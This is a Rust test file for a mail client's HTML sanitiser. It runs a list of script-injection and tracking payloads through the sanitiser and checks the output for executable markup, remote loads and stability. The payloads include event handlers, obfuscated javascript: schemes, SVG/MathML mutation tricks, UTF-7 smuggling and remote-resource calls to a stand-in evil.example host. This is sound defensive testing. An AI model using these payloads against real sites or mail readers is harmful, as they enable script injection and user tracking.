//! A collection of script-injection and tracking vectors run through the
//! sanitiser, alone and inside messages. Each output is checked for markup
//! that could run script or load remote content, and for stability: the
//! sanitised output sanitised again must not change.

mod common;

use common::{body_html, visible_text};
use mailfront_mime::{render_message, sanitize_html, RenderOptions};

const VECTORS: &[(&str, &str)] = &[
    ("script tag", "<script>alert(1)</script>"),
    (
        "script with remote source",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    ),
    ("img onerror", "<img src=x onerror=alert(1)>"),
    ("body onload", "<body onload=alert(1)>text</body>"),
    (
        "details ontoggle",
        "<details open ontoggle=alert(1)><summary>s</summary></details>",
    ),
    ("marquee onstart", "<marquee onstart=alert(1)>m</marquee>"),
    ("javascript link", "<a href=\"javascript:alert(1)\">x</a>"),
    ("mixed-case scheme", "<a href=\"JaVaScRiPt:alert(1)\">x</a>"),
    (
        "tab inside scheme",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    ),
    (
        "newline inside scheme",
        "<a href=\"java\nscript:alert(1)\">x</a>",
    ),
    (
        "decimal entity scheme",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    ),
    (
        "named colon entity",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
    ),
    (
        "leading control characters",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
    ),
    ("vbscript link", "<a href=\"vbscript:msgbox(1)\">x</a>"),
    (
        "data link",
        "<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
    ),
    ("iframe", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    (
        "iframe srcdoc",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    ),
    ("object", "<object data=\"javascript:alert(1)\"></object>"),
    (
        "embed",
        "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    ),
    (
        "frameset",
        "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    ),
    (
        "form action",
        "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    ),
    (
        "button formaction",
        "<button formaction=\"javascript:alert(1)\">x</button>",
    ),
    ("isindex", "<isindex action=javascript:alert(1) type=image>"),
    (
        "base href",
        "<base href=\"javascript:alert(1)//\"><a href=\"x\">x</a>",
    ),
    (
        "meta refresh",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    ),
    (
        "link stylesheet",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    ),
    ("svg onload", "<svg onload=alert(1)>"),
    (
        "svg animate onbegin",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    ),
    (
        "svg animate values",
        "<svg><a><animate attributeName=href values=javascript:alert(1) />\
         <text x=20 y=20>Click</text></a></svg>",
    ),
    (
        "svg set handler",
        "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/></svg>",
    ),
    (
        "svg use data",
        "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;\
         &lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x\"></use></svg>",
    ),
    ("svg script", "<svg><script>alert(1)</script></svg>"),
    (
        "svg foreignObject",
        "<svg><foreignObject><iframe src=\"javascript:alert(1)\"></iframe></foreignObject></svg>",
    ),
    (
        "mathml link",
        "<math><a xlink:href=\"javascript:alert(1)\">click</a></math>",
    ),
    (
        "mathml maction",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    ),
    (
        "style url javascript",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
    ),
    (
        "style expression",
        "<div style=\"width: expression(alert(1))\">x</div>",
    ),
    (
        "style behavior",
        "<div style=\"behavior: url(x.htc)\">x</div>",
    ),
    (
        "style moz-binding",
        "<div style=\"-moz-binding: url(https://evil.example/x.xml#y)\">x</div>",
    ),
    (
        "style escaped url",
        "<div style=\"background-image: u\\72 l(https://evil.example/)\">x</div>",
    ),
    (
        "style entity url",
        "<div style=\"background: u&#114;l(https://evil.example/)\">x</div>",
    ),
    (
        "style overlay",
        "<div style=\"position:fixed;top:0;left:0;z-index:99\">overlay</div>",
    ),
    (
        "stylesheet import",
        "<style>@import 'https://evil.example/x.css';</style><p>x</p>",
    ),
    (
        "stylesheet url",
        "<style>body{background:url(\"https://evil.example/t.gif\")}</style>",
    ),
    (
        "stylesheet breakout",
        "<style>p{}</style ><script>alert(1)</script>",
    ),
    (
        "stylesheet close inside",
        "<style>p{color:red}</style><img src=x onerror=alert(1)>",
    ),
    ("comment", "<!--<img src=x onerror=alert(1)>-->"),
    (
        "conditional comment",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
    ),
    ("cdata", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
    (
        "noscript mutation",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    ),
    (
        "svg style mutation",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    ),
    (
        "mglyph mutation",
        "<math><mtext><table><mglyph><style><!--</style>\
         <img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;\">",
    ),
    (
        "form math mutation",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    (
        "unterminated attribute",
        "<img src=\"x\" onerror=\"alert(1)",
    ),
    ("double open", "<<script>alert(1)//<</script>"),
    (
        "split script tag",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
    ),
    (
        "quote confusion",
        "<img \"\"\"><script>alert(1)</script>\">",
    ),
    ("xmp", "<xmp><img src=x onerror=alert(1)></xmp>"),
    (
        "textarea",
        "<textarea><img src=x onerror=alert(1)></textarea>",
    ),
    (
        "svg data image",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    ),
    (
        "html data image",
        "<img src=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">",
    ),
    (
        "remote srcset",
        "<img srcset=\"https://evil.example/a.png 1x, https://evil.example/b.png 2x\">",
    ),
    (
        "remote table background",
        "<table background=\"https://evil.example/bg.png\"><tr><td>x</td></tr></table>",
    ),
    (
        "video poster",
        "<video poster=\"https://evil.example/p.png\"><source src=\"x\"></video>",
    ),
    (
        "audio",
        "<audio src=\"https://evil.example/a.mp3\"></audio>",
    ),
    (
        "tracking pixel",
        "<img src=\"https://evil.example/t.gif\" width=1 height=1>",
    ),
    (
        "protocol-relative image",
        "<img src=\"//evil.example/t.gif\">",
    ),
    (
        "dom clobbering",
        "<form name=cookie><img name=getElementById id=location></form>",
    ),
    (
        "link target",
        "<a href=\"https://ok.example/\" onclick=\"alert(1)\" target=\"_self\">ok</a>",
    ),
    (
        "cid path escape",
        "<a href=\"cid:../../evil\">x</a><img src=\"cid:logo\">",
    ),
    (
        "ping",
        "<a href=\"https://ok.example/\" ping=\"https://evil.example/\">x</a>",
    ),
];

const ALLOWED_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "alt",
    "style",
    "class",
    "title",
    "lang",
    "dir",
    "align",
    "valign",
    "bgcolor",
    "width",
    "height",
    "background",
    "hreflang",
    "border",
    "hspace",
    "vspace",
    "srcset",
    "cellpadding",
    "cellspacing",
    "summary",
    "colspan",
    "rowspan",
    "nowrap",
    "headers",
    "scope",
    "color",
    "face",
    "size",
    "start",
    "type",
    "value",
    "noshade",
    "span",
    "rel",
    "target",
    "char",
    "charoff",
    "datetime",
    "open",
];

const FORBIDDEN_ELEMENTS: &[&str] = &[
    "script",
    "svg",
    "math",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "base",
    "meta",
    "link",
    "set",
    "animate",
    "use",
    "frame",
    "frameset",
    "applet",
    "template",
    "foreignobject",
    "image",
    "video",
    "audio",
    "source",
    "isindex",
    "textarea",
    "noscript",
];

/// One start tag: its name and its attributes with values unescaped.
struct Tag {
    name: String,
    attributes: Vec<(String, String)>,
}

/// Read the start tags of HTML: names, then attributes quoted, unquoted or
/// bare.
fn start_tags(html: &str) -> Vec<Tag> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some(start) = rest.find('<') {
        let after = &rest[start + 1..];
        let end = after.find('>').unwrap_or(after.len());
        let inside = &after[..end];
        rest = &after[end..];
        if inside.starts_with('/') || inside.starts_with('!') {
            continue;
        }
        let name_end = inside.find([' ', '/']).unwrap_or(inside.len());
        let mut tag = Tag {
            name: inside[..name_end].to_ascii_lowercase(),
            attributes: Vec::new(),
        };
        tag.attributes = attributes(&inside[name_end..]);
        tags.push(tag);
    }
    tags
}

fn attributes(text: &str) -> Vec<(String, String)> {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    let stop = |b: u8| b.is_ascii_whitespace() || b == b'=' || b == b'/';
    while i < bytes.len() {
        while i < bytes.len() && (bytes[i].is_ascii_whitespace() || bytes[i] == b'/') {
            i += 1;
        }
        let name_start = i;
        while i < bytes.len() && !stop(bytes[i]) {
            i += 1;
        }
        let name = text[name_start..i].to_ascii_lowercase();
        let mut value = String::new();
        if bytes.get(i) == Some(&b'=') {
            i += 1;
            let quote = bytes.get(i).copied().filter(|q| *q == b'"' || *q == b'\'');
            let value_start = i + usize::from(quote.is_some());
            i = value_start;
            while i < bytes.len()
                && quote.map_or(!bytes[i].is_ascii_whitespace(), |q| bytes[i] != q)
            {
                i += 1;
            }
            value = text[value_start..i]
                .replace("&quot;", "\"")
                .replace("&amp;", "&");
            i += 1;
        }
        if !name.is_empty() {
            out.push((name, value));
        }
    }
    out
}

fn url_is_safe(element: &str, attribute: &str, value: &str) -> bool {
    let normal: String = value
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect();
    let normal = normal.to_ascii_lowercase();
    let data_image = ["png", "gif", "jpeg", "webp"]
        .iter()
        .any(|k| normal.starts_with(&format!("data:image/{k}")));
    if element == "img" && attribute == "src" && data_image {
        return true;
    }
    ["http:", "https:", "mailto:", "ftp:", "tel:", "#", "/part/"]
        .iter()
        .any(|p| normal.starts_with(p))
}

macro_rules! ensure {
    ($condition:expr, $($reason:tt)+) => {
        if !$condition {
            return Err(format!($($reason)+));
        }
    };
}

/// Fail with the reason when the markup could run script or (unless
/// allowed) load remote content.
fn check_safe(name: &str, html: &str, allow_remote: bool) -> Result<(), String> {
    let lower = html.to_ascii_lowercase();
    let style_blocks = lower.matches("<style").count();
    ensure!(
        style_blocks == 0 || (style_blocks == 1 && lower.starts_with("<style>")),
        "{name}: {html}"
    );

    for tag in start_tags(html) {
        ensure!(
            !FORBIDDEN_ELEMENTS.contains(&tag.name.as_str()),
            "{name}: <{}> in {html}",
            tag.name
        );
        for (attribute, value) in &tag.attributes {
            ensure!(
                ALLOWED_ATTRIBUTES.contains(&attribute.as_str()),
                "{name}: {attribute} in {html}"
            );
            if matches!(attribute.as_str(), "href" | "src" | "background" | "srcset") {
                ensure!(
                    url_is_safe(&tag.name, attribute, value),
                    "{name}: {attribute}={value:?}"
                );
            }
            if !allow_remote && attribute != "href" {
                ensure!(
                    !value.contains("evil.example"),
                    "{name}: remote {attribute} in {html}"
                );
            }
            if attribute == "target" {
                ensure!(value == "_blank", "{name}: target={value}");
            }
        }
        if tag.name == "a" && tag.attributes.iter().any(|(a, _)| a == "href") {
            let rel = tag
                .attributes
                .iter()
                .find(|(a, _)| a == "rel")
                .map(|(_, v)| v.as_str());
            ensure!(rel == Some("noopener noreferrer"), "{name}: {html}");
        }
    }

    for needle in [
        "expression(",
        "behavior",
        "-moz-binding",
        "@import",
        "javascript:",
        "vbscript:",
    ] {
        let markup: String = start_tags(html)
            .iter()
            .map(|t| format!("{:?}", t.attributes))
            .collect();
        ensure!(
            !markup.to_ascii_lowercase().contains(needle),
            "{name}: {needle} in {html}"
        );
    }
    if !allow_remote {
        let style_end = lower.find("</style>").unwrap_or(0);
        ensure!(
            !lower[..style_end].contains("evil.example"),
            "{name}: remote CSS in {html}"
        );
        ensure!(
            !lower.contains("position:fixed") && !lower.contains("position: fixed"),
            "{name}"
        );
    }
    Ok(())
}

fn assert_safe(name: &str, html: &str, allow_remote: bool) {
    if let Err(reason) = check_safe(name, html, allow_remote) {
        panic!("{reason}");
    }
}

#[test]
fn every_vector_is_neutralised_with_remote_content_blocked() {
    let options = RenderOptions::default();
    for (name, vector) in VECTORS {
        let out = sanitize_html(vector, &options);
        assert_safe(name, &out.html, false);
        assert!(
            !visible_text(&out.html).is_empty() || !out.html.contains("alert"),
            "{name}"
        );
    }
}

#[test]
fn every_vector_is_neutralised_with_remote_content_allowed() {
    let options = RenderOptions {
        allow_remote: true,
        ..RenderOptions::default()
    };
    for (name, vector) in VECTORS {
        assert_safe(name, &sanitize_html(vector, &options).html, true);
    }
}

/// Tags with sorted attributes, then the text: the order ammonia writes
/// attributes in may differ between runs of the same markup.
fn normalised(html: &str) -> (Vec<String>, String) {
    let tags = start_tags(html)
        .into_iter()
        .map(|mut tag| {
            tag.attributes.sort();
            format!("{} {:?}", tag.name, tag.attributes)
        })
        .collect();
    (tags, visible_text(html))
}

#[test]
fn sanitising_twice_changes_nothing() {
    let options = RenderOptions::default();
    for (name, vector) in VECTORS {
        let once = sanitize_html(vector, &options).html;
        let twice = sanitize_html(&once, &options).html;
        assert_eq!(
            normalised(&once),
            normalised(&twice),
            "{name}: the output is not stable"
        );
    }
}

#[test]
fn removed_remote_content_is_reported() {
    let options = RenderOptions::default();
    for name in [
        "tracking pixel",
        "remote srcset",
        "remote table background",
        "stylesheet url",
    ] {
        let (_, vector) = VECTORS.iter().find(|(n, _)| *n == name).unwrap();
        assert!(sanitize_html(vector, &options).had_remote_content, "{name}");
    }
    let harmless = sanitize_html("<p>hello</p>", &options);
    assert!(!harmless.had_remote_content);
}

#[test]
fn text_inside_neutralised_markup_stays_visible() {
    let options = RenderOptions::default();
    let out = sanitize_html(
        "<form><button>Pay</button></form><marquee>Sale</marquee>",
        &options,
    );
    assert_eq!(visible_text(&out.html), "PaySale");
}

fn message(content_type: &str, body: &str) -> Vec<u8> {
    format!(
        "From: a@example.org\r\nSubject: vector\r\nMIME-Version: 1.0\r\n\
         Content-Type: {content_type}\r\n\r\n{body}"
    )
    .into_bytes()
}

#[test]
fn utf7_html_cannot_smuggle_markup_past_the_sanitiser() {
    let body = "+ADw-script+AD4-alert(1)+ADw-/script+AD4-+ADw-p+AD4-UTF7 text+ADw-/p+AD4-";
    let view = render_message(
        &message("text/html; charset=utf-7", body),
        &RenderOptions::default(),
    );
    let html = body_html(&view);

    assert_safe("utf-7 html", &html, false);
    assert!(html.contains("<p>UTF7 text</p>"), "{html}");
    assert!(!html.contains("alert"), "{html}");
}

#[test]
fn utf7_plain_text_is_escaped() {
    let body = "+ADw-script+AD4-alert(1)+ADw-/script+AD4-";
    let view = render_message(
        &message("text/plain; charset=utf-7", body),
        &RenderOptions::default(),
    );
    let html = body_html(&view);

    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "{html}"
    );
    assert_safe("utf-7 text", &html, false);
}

#[test]
fn utf7_declared_only_in_a_meta_element_is_still_sanitised() {
    let body = "<meta charset=\"utf-7\">+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-";
    let view = render_message(&message("text/html", body), &RenderOptions::default());
    assert_safe("utf-7 meta", &body_html(&view), false);
}

#[test]
fn vectors_inside_a_forwarded_message_are_neutralised() {
    let inner = "From: b@example.org\r\nSubject: inner\r\nContent-Type: text/html\r\n\r\n\
                 <p>Inner text</p><img src=x onerror=alert(1)><img src=\"https://evil.example/t\">";
    let outer = format!(
        "From: a@example.org\r\nSubject: outer\r\nContent-Type: multipart/mixed; boundary=o\r\n\r\n\
         --o\r\nContent-Type: text/plain\r\n\r\nsee below\r\n\
         --o\r\nContent-Type: message/rfc822\r\n\r\n\
         From: c@example.org\r\nSubject: middle\r\nContent-Type: message/rfc822\r\n\r\n\
             {inner}\r\n--o--\r\n"
    );
    let view = render_message(outer.as_bytes(), &RenderOptions::default());
    let html = body_html(&view);

    assert_safe("forwarded", &html, false);
    assert!(visible_text(&html).contains("Inner text"), "{html}");
    assert!(view.had_remote_content);
}

#[test]
fn the_checks_catch_the_vectors_before_sanitising() {
    let caught = VECTORS
        .iter()
        .filter(|(name, vector)| check_safe(name, vector, false).is_err())
        .count();
    assert!(
        caught * 10 >= VECTORS.len() * 9,
        "only {caught} of {} raw vectors caught",
        VECTORS.len()
    );
}

#[test]
fn deeply_nested_markup_is_read_as_text_quickly() {
    let depth = 50_000;
    let html = format!(
        "{}deep<script>alert(1)</script><img src=x onerror=alert(1)>{}",
        "<div>".repeat(depth),
        "</div>".repeat(depth)
    );
    let started = std::time::Instant::now();
    let out = sanitize_html(&html, &RenderOptions::default());
    assert!(
        visible_text(&out.html).contains("deep"),
        "{}",
        &out.html[..200.min(out.html.len())]
    );
    assert!(
        started.elapsed().as_secs() < 10,
        "took {:?}",
        started.elapsed()
    );
    assert_safe("deep nesting", &out.html, false);
    assert!(!out.html.contains("alert"), "script text is dropped");

    let quotes = format!("{}quoted", "> ".repeat(depth));
    assert!(mailfront_mime::text_to_html(&quotes).contains("quoted"));
}
